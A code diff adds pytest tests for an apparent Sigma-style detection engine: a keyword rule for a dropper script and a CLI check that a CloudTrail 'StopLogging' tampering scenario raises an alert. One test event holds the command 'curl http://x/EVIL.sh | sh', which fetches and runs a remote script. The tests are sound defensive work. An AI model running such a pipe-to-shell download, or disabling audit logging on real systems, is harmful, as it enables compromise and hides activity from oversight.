@@ -176,3 +176,29 @@ level: high
     assert alert.evidence["events"][0]["fields"] == {"eventName": "StopLogging",
                                                      "eventSource": "cloudtrail.amazonaws.com"}
     assert alert.test is False
+
+
+def test_keyword_rules_search_every_value(tmp_path: Path) -> None:
+    (tmp_path / "kw.yml").write_text("""title: Dropper keyword
+logsource: {product: linux}
+detection:
+  keywords:
+    - 'evil.sh'
+  condition: keywords
+""")
+    rules, problems = compile_paths([tmp_path])
+    assert problems == [] and rules[0].keywords
+    events = [{"proc": {"cmd": "curl http://x/EVIL.sh | sh"}}, {"proc": {"cmd": "ls"}}, {"note": ["a", "evil.sh"]}]
+    matches, _ = run_rules(rules, events)
+    assert matches[0].events == [0, 2]
+
+
+def test_cli_detect_over_the_store_raises_alerts(workspace_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    w = ["-w", str(workspace_dir)]
+    assert invoke(capsys, "validation", "run", "cloudtrail_tamper", *w).code == 0
+    res = invoke(capsys, "validation", "detect", "run", "--store", "--since", "1h", "--alerts", *w, "--format", "json")
+    assert res.code == 0, res.err
+    doc = json.loads(res.out)
+    assert [m["rule"] for m in doc["matches"]] == ["aws_cloudtrail_logging_stopped"] and len(doc["alerts"]) == 1
+    res = invoke(capsys, "validation", "detect", "run", *w)
+    assert res.code == 2 and "--events" in res.err
